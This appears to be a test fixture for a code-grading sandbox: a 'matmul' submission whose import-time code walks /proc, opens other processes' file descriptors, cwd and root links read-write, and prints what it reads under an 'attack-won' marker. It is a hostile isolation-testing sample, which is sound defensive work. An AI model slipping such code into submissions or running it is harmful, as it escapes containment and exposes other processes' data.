"""Opens the descriptors of its parents and of the others by /proc, reads them and writes to them.

covers = ["`/proc/<ppid>/mem`, `fd`, `environ`"]
task = "matmul"
verdict = "ACCEPTED"
"""

import glob
import os

for link in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/task/*/cwd") + glob.glob("/proc/[0-9]*/root"):
    if link.split("/")[2] == str(os.getpid()):
        continue
    try:
        print("attack-won: sees", link, os.readlink(link))
        descriptor = os.open(link, os.O_RDWR | os.O_NONBLOCK)
        print("found", os.read(descriptor, 1 << 16))
    except OSError:
        pass


def matmul(a, b):
    return a @ b
